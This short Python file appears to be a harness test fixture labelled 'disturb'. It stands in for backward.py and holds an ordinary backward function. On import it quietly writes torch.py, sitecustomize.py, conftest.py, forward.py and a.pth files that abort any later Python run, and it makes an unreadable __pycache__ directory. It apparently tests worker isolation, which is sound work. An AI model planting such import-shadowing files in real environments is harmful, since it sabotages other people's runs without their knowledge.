# replaces: backward.py
# kind: disturb
# earns: full
# tries: It leaves files where the next worker starts, with names that Python imports.
import os


def backward(optimizer, loss):
    optimizer.zero_grad()
    loss.backward()

for name in ("torch.py", "sitecustomize.py", "forward.py", "a.pth", "conftest.py"):
    try:
        with open(name, "w") as file:
            file.write("raise SystemExit('left behind')\n")
    except OSError:
        pass
try:
    os.makedirs("__pycache__/deep/deeper", exist_ok=True)
    os.chmod("__pycache__", 0)
except OSError:
    pass
